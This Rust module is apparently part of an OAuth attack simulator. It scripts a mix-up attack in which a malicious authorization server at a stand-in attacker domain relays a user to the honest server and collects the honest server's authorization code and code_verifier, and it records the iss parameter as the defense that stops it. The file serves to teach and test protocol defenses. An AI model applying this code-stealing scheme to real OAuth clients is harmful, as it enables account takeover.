//! `mix-up`: the client trusts two ASes and uses one redirect URI for both. Alice picks
//! the attacker's AS, which sends her on to the honest AS; the honest AS's code comes
//! back to the client, which — believing the response came from the attacker's AS —
//! sends the code to the attacker's token endpoint (RFC 9700 §4.4). The `iss`
//! parameter (RFC 9207) tells the client which AS really answered.

use crate::attacks::setup::*;
use http::StatusCode;

use crate::actors::Defenses;
use crate::actors::auth_server::AuthServer;
use crate::actors::client::AsRegistration;
use crate::actors::defenses::DefenseId;
use crate::actors::well_known as wk;
use crate::attacks::attacker::{Attacker, Kit, Moves, Playbook};
use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
use crate::protocol::errors::{ErrorCode, OAuthError, json_response};
use crate::protocol::http_wire::{self, Request, Response};
use crate::protocol::jwt::{SigningKey, jwks_of};
use crate::protocol::params::{Params, append_query};
use crate::protocol::requests::{AuthorizationRequest, RawParams};
use crate::sim::Simulation;
use crate::sim::world::WorldBuilder;

pub const EVIL_AS: &str = "evil-as";
pub const EVIL_ISSUER: &str = "https://as.attacker.example";

pub struct MixUp;

static INFO: AttackInfo = AttackInfo {
    id: "mix-up",
    title: "Mix-up: the honest AS's code sent to the attacker's AS",
    story: "Photo Printer lets users sign in with as.example or with as.attacker.example, and uses the same redirect \
            URI for both. Alice picks as.attacker.example. That AS forwards her to as.example's authorization \
            endpoint with Photo Printer's client_id there and the same state. Alice signs in at the honest AS; its \
            code arrives at the callback, and Photo Printer, whose session says the request went to the attacker's \
            AS, redeems the honest code at the attacker's token endpoint.",
    capabilities: &[Capability::MaliciousAs],
    setup: "Photo Printer also trusts the attacker's AS (as.attacker.example), with the same redirect URI.",
    steps: &[
        "Serve AS metadata and a JWKS at as.attacker.example",
        "Answer /authorize with a redirect to as.example/authorize for photo-printer, same state, nonce and challenge",
        "Receive the honest AS's code (and the client's code_verifier) at /token",
    ],
    goal: "the attacker's token endpoint receives a code issued by the honest AS",
    stoppers: &[Stopper {
        defense: DefenseId::IssParameter,
        why: "the response's iss is as.example, not the AS the client sent Alice to (RFC 9207 §2.4)",
        needs: &[],
        with_rest_of_bcp: false,
        fails_the_flow: false,
    }],
    references: "RFC 9700 §4.4; RFC 9207",
};

pub struct EvilAs;

impl EvilAs {
    fn metadata() -> serde_json::Value {
        serde_json::json!({
            "issuer": EVIL_ISSUER,
            "authorization_endpoint": format!("{EVIL_ISSUER}/authorize"),
            "token_endpoint": format!("{EVIL_ISSUER}/token"),
            "jwks_uri": format!("{EVIL_ISSUER}/jwks"),
            "response_types_supported": ["code"],
            "code_challenge_methods_supported": ["S256"],
            "authorization_response_iss_parameter_supported": true,
        })
    }
}

impl Playbook for EvilAs {
    fn on_request(
        &mut self,
        kit: &mut Kit,
        ctx: &mut Moves<'_, '_>,
        req: &Request,
    ) -> Option<Response> {
        match req.uri().path() {
            "/.well-known/openid-configuration" | "/.well-known/oauth-authorization-server" => {
                Some(json_response(StatusCode::OK, &Self::metadata()))
            }
            "/jwks" => Some(json_response(
                StatusCode::OK,
                &serde_json::to_value(jwks_of(&SigningKey::demo_second_as())).unwrap_or_default(),
            )),
            "/authorize" => {
                let forwarded = AuthorizationRequest::from_params(Params::from_query(req.uri()))
                    .replace("client_id", wk::CLIENT_ID);
                ctx.note(format!("Attacker AS: forwards Alice to the honest AS's authorization endpoint, with Photo Printer's client_id there; the request keeps {}.", own_values_in(&crate::protocol::http_wire::url_string(req.uri())).replace("its own", "the client's own")));
                let mut r = http_wire::response(StatusCode::FOUND);
                http_wire::set_header(
                    r.headers_mut(),
                    "location",
                    &forwarded.url(&format!("{}/authorize", wk::AS_ISSUER)),
                );
                Some(r)
            }
            "/token" => {
                let form = Params::parse(&http_wire::body_text(req.body()));
                if let Some(code) = form.first("code") {
                    kit.loot.codes.push(code.to_string());
                    ctx.note(format!(
                        "Attacker AS: received a code{} at its token endpoint.",
                        if form.contains("code_verifier") {
                            " and the client's code_verifier"
                        } else {
                            ""
                        }
                    ));
                }
                Some(
                    OAuthError::new(ErrorCode::InvalidGrant, "try again later")
                        .token_response(false),
                )
            }
            _ => None,
        }
    }
}

/// Photo Printer also trusts the attacker's AS: it registered there (as
/// `photo-printer`) and offers "Sign in with as.attacker.example" (RFC 9700 §4.4).
pub fn client_trusts_attacker_as(w: &mut WorldBuilder) {
    w.client.auth_servers.push(AsRegistration {
        issuer: EVIL_ISSUER.to_string(),
        metadata_url: format!("{EVIL_ISSUER}/.well-known/openid-configuration"),
        client_id: "photo-printer".to_string(),
        client_secret: crate::protocol::secret::ClientSecret::new("printer-secret-at-attacker"),
        redirect_uri: wk::CLIENT_REDIRECT_URI.to_string(),
        display_name: "as.attacker.example".to_string(),
        assertion_key: None,
        prefers_private_key_jwt: false,
    });
}

/// The attacker's AS at as.attacker.example, driven by `playbook` (the catalog's is
/// [`EvilAs`]).
pub fn attacker_as(playbook: impl Playbook) -> Attacker {
    Attacker::new(
        EVIL_AS,
        "Attacker's AS (as.attacker.example)",
        &[EVIL_ISSUER],
        playbook,
    )
}

impl Attack for MixUp {
    fn info(&self) -> &'static AttackInfo {
        &INFO
    }

    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
        let mut w = WorldBuilder::standard(seed, defenses);
        client_trusts_attacker_as(&mut w);
        let mut sim = w.build();
        sim.add_actor(Box::new(attacker_as(EvilAs)));
        let login = append_query(
            &format!("{}/login", wk::CLIENT_ORIGIN),
            &Params::from_pairs([("as", EVIL_ISSUER)]),
        );
        sim.push_script(navigate(
            wk::BROWSER,
            &login,
            "Alice clicks \"Sign in with as.attacker.example\" on Photo Printer.",
        ));
        sim
    }

    fn goal(&self, sim: &Simulation) -> Option<String> {
        let honest = sim.actor::<AuthServer>(wk::AS)?;
        let loot = sim.actor::<Attacker>(EVIL_AS)?.loot();
        loot.codes
            .iter()
            .any(|c| honest.code(c).is_some())
            .then(|| {
                "the client sent a code issued by as.example to the attacker's token endpoint"
                    .to_string()
            })
    }
}

pub static ATTACK: MixUp = MixUp;
